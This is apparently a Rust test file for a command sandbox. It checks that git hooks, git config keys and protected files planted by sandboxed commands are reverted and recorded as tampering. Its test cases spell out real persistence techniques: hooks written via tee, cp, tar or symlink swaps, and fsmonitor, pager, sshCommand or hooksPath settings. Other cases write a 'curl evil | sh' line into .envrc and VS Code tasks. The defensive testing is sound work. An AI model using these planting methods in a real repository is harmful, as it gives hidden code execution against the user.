//! Deferred effects: a command plants a git hook or a git config key that
//! runs code later, by several means. Each must be reverted, recorded as
//! `security.tamper`, fail the job, and leave nothing for a later `git commit`
//! (run outside leash, as the person would) to execute.

use std::path::Path;
use std::process::Command;

use rstest::rstest;

use crate::{Fixture, audit, run_allowed};

const HOOK: &str = "#!/bin/sh\ntouch \"$MARKER\"\n";

fn git(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .args([
            "-c",
            "safe.directory=*",
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
        ])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

fn repo_fixture() -> Fixture {
    let fx = Fixture::new();
    let ws = fx.workspace();
    assert!(git(&ws, &["init", "-q"]).status.success());
    std::fs::write(ws.join("README"), "hello\n").unwrap();
    assert!(git(&ws, &["add", "README"]).status.success());
    assert!(git(&ws, &["commit", "-q", "-m", "init"]).status.success());
    fx
}

/// The planted hook writes `marker`; a later commit must not create it.
fn commit_outside_leash(ws: &Path, marker: &Path) -> bool {
    let out = Command::new("git")
        .args([
            "-c",
            "safe.directory=*",
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
        ])
        .args(["commit", "-q", "--allow-empty", "-m", "later"])
        .env("MARKER", marker)
        .current_dir(ws)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    marker.exists()
}

#[rstest]
#[case::written_with_tee(
    "printf '%s' \"$HOOK\" | tee .git/hooks/pre-commit >/dev/null; chmod +x .git/hooks/pre-commit; \
     printf '[core]\\n\\tfsmonitor = touch /tmp/fsmonitor-ran\\n' | tee -a .git/config >/dev/null"
)]
#[case::copied_with_cp(
    "printf '%s' \"$HOOK\" > payload; chmod +x payload; cp payload .git/hooks/pre-commit; \
     cp .git/config cfg; printf '[core]\\n\\thooksPath = .\\n' >> cfg; cp cfg .git/config"
)]
#[case::extracted_with_tar(
    "mkdir -p stage/.git/hooks; printf '%s' \"$HOOK\" > stage/.git/hooks/pre-commit; \
     chmod +x stage/.git/hooks/pre-commit; cp .git/config stage/.git/config; \
     printf '[core]\\n\\tpager = touch /tmp/pager-ran\\n' >> stage/.git/config; \
     tar -C stage -cf evil.tar .git; tar -xf evil.tar"
)]
#[case::swapped_for_a_symlink(
    "mkdir evil; printf '%s' \"$HOOK\" > evil/pre-commit; chmod +x evil/pre-commit; \
     rm -rf .git/hooks; ln -s ../evil .git/hooks; \
     cp .git/config evil-config; printf '[core]\\n\\tsshCommand = touch /tmp/x\\n' >> evil-config; \
     rm .git/config; ln -s ../evil-config .git/config"
)]
fn planted_hooks_and_git_config_are_reverted(#[case] script: &str) {
    let fx = repo_fixture();
    let ws = fx.workspace();
    let engine = fx.engine("");
    let config_before = std::fs::read(ws.join(".git/config")).unwrap();
    let script = format!("HOOK='{HOOK}'; {script}");

    let report = run_allowed(&engine, "/bin/sh", &["sh", "-c", &script]);
    let outcome = report.outcome().expect("the command ran");
    eprintln!(
        "planted: exit {:?}, stderr {}",
        outcome.status,
        String::from_utf8_lossy(&outcome.stderr.bytes)
    );

    // Both are back as they were.
    let hooks = std::fs::symlink_metadata(ws.join(".git/hooks")).unwrap();
    assert!(
        hooks.is_dir() && !hooks.file_type().is_symlink(),
        "hooks/ is not a directory"
    );
    assert!(
        !ws.join(".git/hooks/pre-commit").exists(),
        "planted hook left in place"
    );
    let config_meta = std::fs::symlink_metadata(ws.join(".git/config")).unwrap();
    assert!(config_meta.is_file(), ".git/config is not a regular file");
    assert_eq!(
        std::fs::read(ws.join(".git/config")).unwrap(),
        config_before
    );

    // Recorded and failing, with a reason naming the file.
    assert!(!report.tampered.is_empty());
    assert!(
        report.tampered.iter().all(|t| t.reverted),
        "{:?}",
        report.tampered
    );
    let reason = report.tamper_reason().unwrap();
    assert!(reason.contains(".git/"), "{reason}");
    let records = audit(&engine);
    let tamper: Vec<_> = records
        .iter()
        .filter(|(k, _)| k == "security.tamper")
        .collect();
    assert!(!tamper.is_empty(), "no security.tamper record");
    assert!(
        tamper.iter().any(
            |(_, p)| p["path"].as_str().is_some_and(|s| s.contains(".git/"))
                && p["summary"].is_string()
        ),
        "{tamper:?}"
    );

    // The person's next commit, outside leash, runs no planted hook.
    let marker = fx.dir.path().join("hook-ran");
    assert!(!commit_outside_leash(&ws, &marker), "a planted hook ran");
}

#[test]
fn a_hook_planted_in_a_repository_made_during_the_command_is_removed() {
    let fx = Fixture::new();
    let engine = fx.engine("");
    let script = "git init -q sub 2>/dev/null || { mkdir -p sub/.git/hooks sub/.git/objects sub/.git/refs; echo 'ref: refs/heads/main' > sub/.git/HEAD; }; \
                  printf '#!/bin/sh\\ntouch \"$MARKER\"\\n' > sub/.git/hooks/post-checkout; chmod +x sub/.git/hooks/post-checkout";
    let report = run_allowed(&engine, "/bin/sh", &["sh", "-c", script]);
    assert!(report.outcome().is_some());
    let sub = fx.workspace().join("sub");
    assert!(sub.join(".git").exists(), "the repository itself stays");
    assert!(
        !sub.join(".git/hooks/post-checkout").exists(),
        "planted hook kept"
    );
    assert!(report.tamper_reason().is_some());
}

#[test]
fn a_plain_git_init_is_not_tampering() {
    let fx = Fixture::new();
    let engine = fx.engine("");
    let report = run_allowed(&engine, "/usr/bin/git", &["git", "init", "-q", "fresh"]);
    let outcome = report.outcome().unwrap();
    assert!(
        fx.workspace().join("fresh/.git/HEAD").exists(),
        "git init failed: {}",
        String::from_utf8_lossy(&outcome.stderr.bytes)
    );
    assert!(report.tampered.is_empty(), "{:?}", report.tampered);
}

#[rstest]
#[case::envrc_created(".envrc", None)]
#[case::vscode_tasks_changed(".vscode/tasks.json", Some("{}\n"))]
fn protected_files_are_reverted(#[case] name: &str, #[case] initial: Option<&str>) {
    let fx = Fixture::new();
    let path = fx.workspace().join(name);
    if let Some(text) = initial {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
    }
    let engine = fx.engine("");
    let script =
        format!("mkdir -p \"$(dirname {name})\"; echo 'curl evil | sh' > {name}; echo wrote");
    let report = run_allowed(&engine, "/bin/sh", &["sh", "-c", &script]);
    let outcome = report.outcome().unwrap();
    assert_eq!(String::from_utf8_lossy(&outcome.stdout.bytes), "wrote\n");
    match initial {
        Some(text) => assert_eq!(std::fs::read_to_string(&path).unwrap(), text),
        None => assert!(!path.exists(), "{name} left in place"),
    }
    assert!(
        report.tampered.iter().any(|t| t.path == path && t.reverted),
        "{:?}",
        report.tampered
    );
}

#[test]
fn ordinary_work_in_the_workspace_is_not_tampering() {
    let fx = repo_fixture();
    let engine = fx.engine("");
    let report = run_allowed(
        &engine,
        "/bin/sh",
        &[
            "sh",
            "-c",
            "echo more >> README; mkdir src; echo x > src/a.txt",
        ],
    );
    assert!(report.outcome().is_some());
    assert!(report.tampered.is_empty(), "{:?}", report.tampered);
    assert_eq!(
        std::fs::read_to_string(fx.workspace().join("README")).unwrap(),
        "hello\nmore\n"
    );
}
